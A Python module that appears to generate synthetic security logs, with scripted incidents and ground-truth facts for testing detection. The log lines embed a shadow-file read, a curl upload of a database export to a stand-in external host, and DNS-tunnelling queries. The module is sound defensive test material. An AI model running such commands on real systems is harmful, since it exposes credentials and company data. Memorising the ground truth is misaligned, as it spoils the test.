"""The incidents embedded in the generated day, with the facts a detection should find.

The facts (:mod:`ingest.synth.truth`) depend only on the seed, never on how many background
lines surround them, so ``ground_truth(seed)`` describes every file generated with that seed, at
any size.
"""

from __future__ import annotations

import base64
from collections import defaultdict
from random import Random

from ingest.synth import formats as fmt
from ingest.synth.truth import (
    ArchiveTransfer,
    BruteForce,
    DnsTunnel,
    ErrorBurst,
    GroundTruth,
    PrivilegeEscalation,
    Transfer,
    UsbCopy,
)
from ingest.synth.world import HOSTS, make_rng

#: Generated lines of one file: (seconds into the day, line bytes).
Timed = list[tuple[float, bytes]]


class Sink:
    """Collects generated lines per file name."""

    def __init__(self) -> None:
        self.files: dict[str, Timed] = defaultdict(list)

    def add(self, name: str, t: float, line: bytes) -> None:
        self.files[name].append((t, line))

    def auth(self, t: float, host: str, app: str, pid: int, msg: str) -> None:
        self.add("auth.log", t, fmt.syslog(t, host, app, pid, msg))

    def syslog(self, t: float, host: str, app: str, pid: int | None, msg: str) -> None:
        self.add("syslog", t, fmt.syslog(t, host, app, pid, msg))


def build(seed: int) -> tuple[GroundTruth, dict[str, Timed]]:
    """The incidents of ``seed`` and their lines per file name (each list in time order)."""
    rng = make_rng(seed, "incidents")
    sink = Sink()
    brute = _brute_force(rng, sink)
    escalation = _escalation(rng, sink)
    off_hours, unlisted = _transfers(rng, sink)
    usb = _usb(rng, sink)
    archive = _archive(rng, sink)
    tunnel = _dns_tunnel(rng, sink)
    burst = _error_burst(rng, sink)
    truth = GroundTruth(
        brute, escalation, off_hours, unlisted, usb, archive, tunnel, burst,
        silent_host="web02", silent_after=14 * 3600.0,
    )  # fmt: skip
    return truth, {name: sorted(lines) for name, lines in sink.files.items()}


def _brute_force(rng: Random, sink: Sink) -> BruteForce:
    ip = f"203.0.113.{rng.randint(2, 250)}"
    host, user, pid = "web01", "deploy", rng.randint(20000, 30000)
    t = 3 * 3600 + 10 * 60.0
    n = rng.randint(40, 70)
    port, first = 0, t + 1.0
    for i in range(n):
        t = first if i == 0 else t + rng.uniform(1.5, 4.0)
        port = rng.randint(30000, 60000)
        target = user if i % 4 else rng.choice(("admin", "oracle", "test"))
        invalid = "" if target == user else "invalid user "
        if invalid:
            sink.auth(t, host, "sshd", pid + i, f"Invalid user {target} from {ip} port {port}")
        msg = f"Failed password for {invalid}{target} from {ip} port {port} ssh2"
        sink.auth(t, host, "sshd", pid + i, msg)
    t += 2.0
    last = t
    repeated = f"message repeated 3 times: [ Failed password for {user} from {ip} port {port} ssh2]"
    sink.auth(t, host, "sshd", pid + n - 1, repeated)
    t += rng.uniform(20, 60)
    port = rng.randint(30000, 60000)
    sink.auth(t, host, "sshd", pid + n, f"Accepted password for {user} from {ip} port {port} ssh2")
    opened = f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"
    sink.auth(t, host, "sshd", pid + n, opened)
    return BruteForce(host, ip, user, n + 1, n + 3, first, last, t)


def _escalation(rng: Random, sink: Sink) -> PrivilegeEscalation:
    host, user, uid = "app01", "frank", 1006
    t = 10 * 3600 + 5 * 60 + rng.uniform(0, 60)
    tty = f"pts/{rng.randint(0, 5)}"
    pid = rng.randint(30000, 40000)
    fail = (
        f"pam_unix(sudo:auth): authentication failure; logname={user} uid={uid} euid=0 "
        f"tty=/dev/{tty} ruser={user} rhost=  user={user}"
    )
    for k in range(2):
        sink.auth(t + 3 * k, host, "sudo", pid, fail)
    where = f"TTY={tty} ; PWD=/home/{user} ; USER=root"
    sink.auth(
        t + 9,
        host,
        "sudo",
        pid,
        f"{user} : 3 incorrect password attempts ; {where} ; COMMAND=/bin/bash",
    )
    command = "/usr/bin/cat /etc/shadow"
    sink.auth(
        t + 40, host, "sudo", pid + 1, f"{user} : user NOT in sudoers ; {where} ; COMMAND={command}"
    )
    # A web shell's account (www-data, uid 33) su's to a real user, who reads the shadow file.
    su_t = 4 * 3600 + 37 * 60 + rng.uniform(0, 30)
    serial = 3_000_000_000 + rng.randint(0, 999)  # never one of the background's serials
    su_user, pts = "deploy", "/dev/pts/1"
    for k, (rtype, op) in enumerate((("USER_AUTH", "authentication"), ("USER_ACCT", "accounting"))):
        body = (
            f"pid={pid + 7} uid=33 auid=4294967295 ses=4294967295 "
            f'msg=\'op=PAM:{op} acct="{su_user}" '
            f'exe="/bin/su" hostname=? addr=? terminal={pts} res=success\''
        )
        sink.add("audit.log", su_t, fmt.audit(su_t, serial + k, rtype, body))
    shadow = "cat /etc/shadow"
    body = (
        f'pid={pid + 9} uid=1001 auid=4294967295 ses=4294967295 msg=\'cwd="/var/www/html/uploads" '
        f"cmd={fmt.hex_arg(shadow)} terminal=pts/1 res=success'"
    )
    sink.add("audit.log", su_t + 25, fmt.audit(su_t + 25, serial + 2, "USER_CMD", body))
    return PrivilegeEscalation(host, user, 3, command, "web01", 33, su_user, shadow, su_t)


def _transfers(rng: Random, sink: Sink) -> tuple[Transfer, tuple[Transfer, ...]]:
    db = HOSTS["db01"]
    t = 2 * 3600 + 47 * 60 + rng.uniform(0, 60)
    size = rng.randint(2_000_000_000, 3_500_000_000)
    off = Transfer(db, f"192.0.2.{rng.randint(60, 90)}", 443, size, t)
    sink.add(
        "conn.log",
        t,
        fmt.conn(
            rng,
            t,
            (db, rng.randint(40000, 60000)),
            (off.dst_ip, 443),
            "tcp",
            "ssl",
            1800.0,
            size,
            rng.randint(200_000, 900_000),
        ),
    )
    unlisted = []
    app = HOSTS["app01"]
    for k in range(3):
        t = (9 + 2 * k) * 3600 + rng.uniform(0, 3000)
        size = rng.randint(50_000_000, 200_000_000)
        transfer = Transfer(app, f"192.0.2.{100 + k}", 443, size, t)
        unlisted.append(transfer)
        sink.add(
            "conn.log",
            t,
            fmt.conn(
                rng,
                t,
                (app, rng.randint(40000, 60000)),
                (transfer.dst_ip, 443),
                "tcp",
                "ssl",
                rng.uniform(30, 300),
                size,
                rng.randint(5000, 90000),
            ),
        )
        sink.add(
            "edr.jsonl",
            t,
            fmt.edr(
                t,
                {
                    "host": {"name": "app01", "ip": app},
                    "user": {"name": "svc-app"},
                    "process": {"name": "python3", "pid": rng.randint(2000, 9000)},
                    "event": {
                        "category": "network",
                        "action": "network_connection",
                        "outcome": "success",
                    },
                    "source": {"ip": app, "bytes": size},
                    "destination": {"ip": transfer.dst_ip, "port": 443},
                },
            ),
        )
    return off, tuple(unlisted)


def _usb(rng: Random, sink: Sink) -> UsbCopy:
    host, user, uid = "ws-carol", "carol", 1003
    t = 13 * 3600 + 5 * 60 + rng.uniform(0, 60)
    port = f"1-{rng.randint(1, 4)}"
    serial = "".join(rng.choice("0123456789ABCDEF") for _ in range(20))
    vendor, product = "0781", "5581"
    kernel = [
        f"usb {port}: new high-speed USB device number {rng.randint(3, 9)} using xhci_hcd",
        f"usb {port}: New USB device found, idVendor={vendor}, idProduct={product}, "
        "bcdDevice= 1.00",
        f"usb {port}: Product: Ultra",
        f"usb {port}: Manufacturer: SanDisk",
        f"usb {port}: SerialNumber: {serial}",
        f"usb-storage {port}:1.0: USB Mass Storage device detected",
        "sd 6:0:0:0: [sdb] Attached SCSI removable disk",
    ]
    for k, msg in enumerate(kernel):
        sink.syslog(t + k * 0.2, host, "kernel", None, msg)
    mount = f"/media/{user}/ULTRA"
    mount_t = t + 3.0
    sink.syslog(
        mount_t, host, "udisksd", 1432, f"Mounted /dev/sdb1 at {mount} on behalf of uid {uid}"
    )
    files, total = [], 0
    w = mount_t + 20
    for k in range(rng.randint(5, 12)):
        w += rng.uniform(2, 15)
        name = f"{mount}/{rng.choice(('customers', 'tariffs', 'meter-reads', 'payroll'))}-{k}.xlsx"
        size = rng.randint(200_000, 30_000_000)
        files.append(name)
        total += size
        sink.add(
            "edr.jsonl",
            w,
            fmt.edr(
                w,
                {
                    "host": {"name": host, "ip": HOSTS[host]},
                    "user": {"name": user},
                    "process": {"name": "cp", "pid": 41000 + k},
                    "event": {"category": "file", "action": "file_write", "outcome": "success"},
                    "file": {"path": name, "size": size},
                },
            ),
        )
    sink.syslog(w + 30, host, "udisksd", 1432, f"Unmounted /dev/sdb1 on behalf of uid {uid}")
    sink.syslog(w + 35, host, "kernel", None, f"usb {port}: USB disconnect, device number 5")
    return UsbCopy(host, user, vendor, product, serial, "/dev/sdb1", mount, tuple(files), total, t)


def _archive(rng: Random, sink: Sink) -> ArchiveTransfer:
    host, user = "db01", "dave"
    ip = HOSTS[host]
    t = 22 * 3600 + 15 * 60 + rng.uniform(0, 60)
    archive = f"/home/{user}/.cache/export.tar.gz"
    size = rng.randint(300_000_000, 900_000_000)
    tar = f"tar -czf {archive} /var/lib/postgresql/exports"
    sink.add(
        "edr.jsonl",
        t,
        fmt.edr(
            t,
            {
                "host": {"name": host, "ip": ip},
                "user": {"name": user},
                "process": {"name": "tar", "pid": 51001, "command_line": tar},
                "event": {"category": "process", "action": "process_start", "outcome": "success"},
            },
        ),
    )
    done = t + rng.uniform(60, 180)
    sink.add(
        "edr.jsonl",
        done,
        fmt.edr(
            done,
            {
                "host": {"name": host, "ip": ip},
                "user": {"name": user},
                "process": {"name": "tar", "pid": 51001},
                "event": {"category": "file", "action": "file_create", "outcome": "success"},
                "file": {"path": archive, "size": size},
            },
        ),
    )
    send = done + rng.uniform(30, 240)
    dst = f"192.0.2.{rng.randint(140, 160)}"
    curl = f"curl -s -T {archive} https://{dst}/upload"
    sent = size + size // 50
    sink.add(
        "edr.jsonl",
        send,
        fmt.edr(
            send,
            {
                "host": {"name": host, "ip": ip},
                "user": {"name": user},
                "process": {"name": "curl", "pid": 51077, "command_line": curl},
                "event": {"category": "process", "action": "process_start", "outcome": "success"},
            },
        ),
    )
    sink.add(
        "conn.log",
        send,
        fmt.conn(
            rng,
            send,
            (ip, rng.randint(40000, 60000)),
            (dst, 443),
            "tcp",
            "ssl",
            rng.uniform(60, 600),
            sent,
            7_000,
        ),
    )
    return ArchiveTransfer(host, user, archive, t, send, dst, sent)


def _dns_tunnel(rng: Random, sink: Sink) -> DnsTunnel:
    src = HOSTS["app01"]
    domain = "t.cdn-metrics.example"
    t = first = 16 * 3600 + rng.uniform(0, 120)
    n = rng.randint(150, 250)
    shortest = 1000
    for _ in range(n):
        chunk = bytes(rng.getrandbits(8) for _ in range(rng.randint(32, 39)))
        label = base64.b32encode(chunk).decode().rstrip("=").lower()
        shortest = min(shortest, len(label))
        query = f"{label}.{rng.randint(0, 99999)}.{domain}"
        sink.add("dns.log", t, fmt.dns(rng, t, src, "10.20.0.53", query, "TXT", "-"))
        last = t
        t += rng.uniform(2, 6)
    return DnsTunnel(src, domain, n, shortest, first, last)


def _error_burst(rng: Random, sink: Sink) -> ErrorBurst:
    minute = 11 * 3600 + 30 * 60.0
    n = rng.randint(200, 300)
    for k in range(n):
        t = minute + k * 59.0 / n
        client = f"100.64.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        status = rng.choice((500, 502, 503))
        line = fmt.access(t, client, "-", "GET /api/v1/items HTTP/1.1", status, 157, "curl/8.5.0")
        sink.add("access.log", t, line)
    return ErrorBurst(HOSTS["web01"], minute, n)
